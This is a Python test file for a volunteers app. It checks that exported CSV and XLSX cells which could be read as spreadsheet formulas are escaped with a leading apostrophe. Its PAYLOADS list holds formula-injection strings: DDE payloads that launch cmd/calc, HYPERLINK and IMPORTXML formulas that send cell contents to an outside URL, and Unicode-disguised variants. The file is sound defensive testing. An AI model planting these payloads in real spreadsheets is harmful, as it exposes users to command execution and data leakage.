"""Spreadsheets do nothing when they are opened, whatever stands in them."""

import pytest

from tests.volunteers.spreadsheet_readers import (
    FILLER,
    MARK,
    NO_BREAK,
    OVERRIDE,
    ZERO_WIDTH,
    is_inert,
    read_csv,
    read_xlsx,
)
from volunteers.spreadsheets import csv_lines, guard, xlsx_file

#: What spreadsheet programs have been made to run, or could take for a formula.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tharmless",
    '=HYPERLINK("https://example.org/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("https://example.org/",A1),"//a")',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "﹦1+1",
    " =1+1",
    f"{NO_BREAK}=1+1",
    f"{ZERO_WIDTH}=1+1",
    f"{MARK}=1+1",
    f"{OVERRIDE}=1+1",
    f"{FILLER}=1+1",
    "\x00=1+1",
    "\x0b\x0c =1+1",
    " \t harmless",
    f" {ZERO_WIDTH}\u2003＝1+1",
]
HARMLESS = [
    "Ana",
    "3 - 1",
    "a=b",
    "ana@example.org",
    "¡Hola!",
    "'=1",
    '"=1"',
    "",
    "👩🏽‍🌾",
    "Ω = ohm",
    "#N/A",
    "1e5",
    "0123",
]


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_what_could_be_a_formula_gets_an_apostrophe(payload):
    assert guard(payload) == f"'{payload}"


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_other_texts_stay_as_they_are(text):
    assert guard(text) == text


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_no_cell_of_either_file_begins_like_a_formula(payload):
    rows = [[payload, payload], [payload, ["Monday", payload, payload]]]
    for row in read_csv(b"".join(csv_lines(rows))):
        assert all(is_inert(cell) for cell in row)
    with xlsx_file(rows, title=payload) as file:
        cells = [cell for row in read_xlsx(file.read()) for cell in row]
    assert all(kind == "s" and is_inert(value) for value, kind in cells)
    for item in cells[3][0].split("; "):
        assert is_inert(item)


def test_a_program_that_parts_cells_elsewhere_finds_no_formula_either():
    ((cell,),) = read_csv(b"".join(csv_lines([["Hello;=1+1\n=2+2;fine\n- a list"]])))
    assert cell == "Hello;'=1+1\n'=2+2;fine\n'- a list"


def test_what_xlsx_cannot_hold_is_replaced_and_long_texts_are_cut():
    rows = [["a\x00b\x1fc\ufffe\uffff\ud800d\te\nf", "x" * 40_000, "#N/A", "TRUE", "=1"]]
    with xlsx_file(rows, title="a/b[c]" * 20) as file:
        (row,) = read_xlsx(file.read())
    values = [value for value, _kind in row]
    assert values[0] == "a\ufffdb\ufffdc\ufffd\ufffd\ufffdd\te\nf"
    assert len(values[1]) == 32_767 and values[1].endswith("…")
    assert values[2:] == ["#N/A", "TRUE", "'=1"]
    assert {kind for _value, kind in row} == {"s"}


def test_csv_says_that_it_is_utf_8():
    assert b"".join(csv_lines([["Iñés"]])) == b"\xef\xbb\xbf" + '"Iñés"\r\n'.encode()
